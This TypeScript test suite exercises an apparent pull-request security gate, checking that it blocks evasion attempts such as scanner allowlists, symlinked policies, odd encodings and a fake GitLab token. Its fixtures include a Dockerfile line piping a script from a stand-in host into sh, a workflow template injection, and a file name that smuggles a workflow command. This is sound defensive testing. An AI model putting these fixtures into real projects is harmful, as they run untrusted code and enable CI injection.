// What a pull request can put into the tree so that the one-line action passes it, though a scanner would find what it brings. Each case
// is committed, cloned as a checkout step does, and judged with the runner's environment of the event.

import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { headOf, unpacked } from '../harness/repository.js';
import { runAction } from '../harness/run-action.js';

const policyFile = '.github/portcullis.yml';
const workflow = '.github/workflows/x.yml';
const token = ['glpat', createHash('sha256').update('hostile change').digest('hex').slice(0, 20)].join('-');
const secret = `a: 1\ngitlab_token: "${token}"\n`;
const injection = `on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$\{{ github.event.issue.title }}"\n`;
const pinned = `FROM ubuntu:24.04@sha256:${'a'.repeat(64)}\n`;
const piped = `${pinned}RUN curl http://x.example/i.sh | sh\nUSER 1000\n`;
const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 1\n`;
const converted = { '.gitattributes': 'x* working-tree-encoding=IBM037\n' };
const onlyNew = { [policyFile]: 'new-only: true\n' };

let root: string;
let source: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'hostile ')));
  source = join(root, 'source');
  mkdirSync(source);
  git(source, 'init', '-q', '-b', 'main');
  bring({ 'README.md': 'hello\n', Dockerfile: `${pinned}USER 1000\n` });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function git(folder: string, ...args: string[]): string {
  const who = ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'core.autocrlf=false', ...unpacked];
  return execFileSync('git', ['-C', folder, ...who, ...args], { encoding: 'utf8', stdio: 'pipe' }).trim();
}

/** What lies at a path: a file, a link, or a blob that goes past the filters of the working tree; undefined takes it away. */
type Tree = Readonly<Record<string, string | Buffer | { readonly link: string } | { readonly blob: string } | undefined>>;

/** Writes and stages. Letters of a name are bytes, so that it need not be text. */
function bring(tree: Tree): void {
  const entries = Object.entries(tree).map(([path, content]) => ({ name: Buffer.from(path, 'latin1'), path, content }));
  for (const { name, path, content } of entries) {
    const file = Buffer.concat([Buffer.from(`${source}/`), name]);
    mkdirSync(join(source, dirname(path)), { recursive: true });
    if (content === undefined) rmSync(file);
    else if (typeof content === 'string' || Buffer.isBuffer(content)) writeFileSync(file, content);
    else if ('link' in content) symlinkSync(content.link, file);
  }
  git(source, 'add', '-A', '-f');
  for (const { name, content } of entries) if (typeof content === 'object' && 'blob' in content) stage(name, content.blob);
}

function stage(name: Buffer, content: string): void {
  const id = execFileSync('git', ['-C', source, 'hash-object', '-w', '--no-filters', '--stdin'], { input: content, encoding: 'utf8' });
  execFileSync('git', ['-C', source, 'update-index', '-z', '--index-info'], {
    input: Buffer.concat([Buffer.from(`100644 ${id.trim()}\t`), name, Buffer.from([0])]),
  });
}

function commit(): string {
  git(source, 'commit', '-qm', 'state', '--allow-empty');
  return headOf(source);
}

/** The change is checked out and judged, by a user who has no rights of their own where one is given. */
async function judged(base: string, close?: (workspace: string) => readonly string[]) {
  const head = commit();
  const workspace = join(root, 'checkout');
  git(root, 'clone', '-q', '--no-local', source, workspace);
  const event = join(root, 'event.json');
  writeFileSync(event, JSON.stringify({ pull_request: { base: { sha: base, ref: 'main' }, head: { sha: head } } }));
  const wrapper = close?.(workspace) ?? [];
  return runAction('portcullis', {
    workspace,
    wrapper,
    inputs: { 'verify-fixes': 'false' },
    environment: {
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: event,
      GITHUB_SHA: head,
      GITHUB_BASE_REF: 'main',
      ...(wrapper.length === 0 ? {} : { GITHUB_OUTPUT: '', GITHUB_STEP_SUMMARY: '' }),
    },
  });
}

test.each<[string, Tree, Tree, RegExp]>([
  ['a credential', {}, { 'app.yml': secret }, /gitlab/],
  ['a script that a stranger writes', {}, { [workflow]: injection }, /template-injection/],
  ['a policy that blocks nothing', {}, { 'app.yml': secret, [policyFile]: 'block-at: none\n' }, /gitlab/],
  ['a policy that is a link', {}, { 'p.yml': '', [policyFile]: { link: '../p.yml' } }, /policy-unreadable/],
  ['no policy any more', { [policyFile]: 'block-at: low\n' }, { 'app.yml': secret, [policyFile]: undefined }, /gitlab/],
  ['a comment that lets it through', {}, { 'app.yml': secret.replace(/"\n/, '" # gitleaks:allow\n') }, /gitlab/],
  ['settings of scanners', {}, { 'app.yml': secret, '.gitleaks.toml': "[allowlist]\npaths=['.*']\n" }, /gitlab/],
  ['a list of findings to ignore', {}, { 'app.yml': secret, '.gitleaksignore': 'app.yml:gitlab-pat:2\n' }, /gitlab/],
  ['settings of a linter', {}, { Dockerfile: piped, '.hadolint.yaml': 'failure-threshold: none\n' }, /high/],
  ['a name with ends of lines and commands', {}, { 'a\r\n::stop-commands::x\u001b[2K.yml': secret }, /gitlab/],
  ['a name that is no text', {}, { 'a\xff.yml': secret }, /gitlab/],
  ['a workflow whose name is no text', {}, { [workflow]: 'on: push\n', '.github/workflows/y\xff.yml': injection }, /name is no text/],
  ['a file that git converts', {}, { ...converted, 'x.txt': { blob: secret } }, /has git convert it/],
  ['such a file whose name is no text', {}, { ...converted, 'x\xff': { blob: secret } }, /has git convert it/],
  ['attributes that call all binary', {}, { 'app.yml': secret, '.gitattributes': '* binary -diff linguist-generated\n' }, /gitlab/],
  ['a folder that git ignores', {}, { 'app/app.yml': secret, '.gitignore': '*\n' }, /gitlab/],
  ['workflows behind a link', {}, { 'ci/x.yml': injection, '.github/workflows': { link: '../ci' } }, /template-injection/],
  ['UTF-16 without a mark', {}, { 'app.yml': Buffer.from(secret, 'utf16le').swap16() }, /app\.yml/],
  ['a picture’s first bytes', {}, { 'app.yml': Buffer.from(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR${secret}`, 'latin1') }, /app\.yml/],
  ['the head of a pointer of Git LFS', {}, { 'app.yml': `${pointer}${secret}` }, /app\.yml/],
  ['a file too large to read', {}, { 'big.yml': secret + 'a: b\n'.repeat(2.3e6) }, /big\.yml/],
  ['reports of its own', {}, { 'app.yml': secret, 'portcullis-results/secret-scan.sarif': '{"version":"2.1.0","runs":[]}' }, /gitlab/],
  ['a file among the results', {}, { 'portcullis-results/app.yml': secret }, /gitlab/],
  ['results that lead out', {}, { 'app.yml': secret, 'portcullis-results': { link: '/tmp' } }, /results-outside/],
  ['a copy where only what is new blocks', { ...onlyNew, 'old.yml': secret }, { 'copy.yml': secret }, /copy\.yml/],
  [
    'a line behind a lone return',
    { ...onlyNew, 'old.yml': 'a: 1\nb: 2\n' },
    { 'old.yml': `${secret.replace('\n', '\r')}b: 2\n` },
    /old\.yml/,
  ],
])('%s is not let through', async (_name, before, change, told) => {
  bring(before);
  const base = commit();
  bring(change);
  const run = await judged(base);
  expect([1, 2]).toContain(run.exitCode);
  expect([run.outputs.decision, `${run.stdout}${run.stderr}`]).toEqual(['block', expect.stringMatching(told)]);
});

test('the same tree without any of it passes', async () => {
  const base = commit();
  bring({ 'more.txt': 'more\n' });
  expect((await judged(base)).exitCode).toBe(0);
});

const asNobody = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'];
const canBeNobody = process.getuid?.() === 0 && spawnSync('setpriv', ['--version']).status === 0;

(canBeNobody ? test : test.skip)('a folder that nobody can look into is a gap of every scanner, and no defect', async () => {
  const base = commit();
  bring({ 'closed/app.yml': secret });
  const run = await judged(base, (workspace) => {
    execFileSync('chown', ['-R', '65534:65534', root]);
    chownSync(join(workspace, 'closed'), 0, 0);
    chmodSync(join(workspace, 'closed'), 0o700);
    return asNobody;
  });
  expect([run.exitCode, run.stdout.includes('Internal failure')]).toEqual([2, false]);
  for (const scanner of ['secret-scan', 'dockerfile-lint', 'workflow-audit'])
    expect(run.stdout).toMatch(new RegExp(`${scanner} did not look at closed`));
});
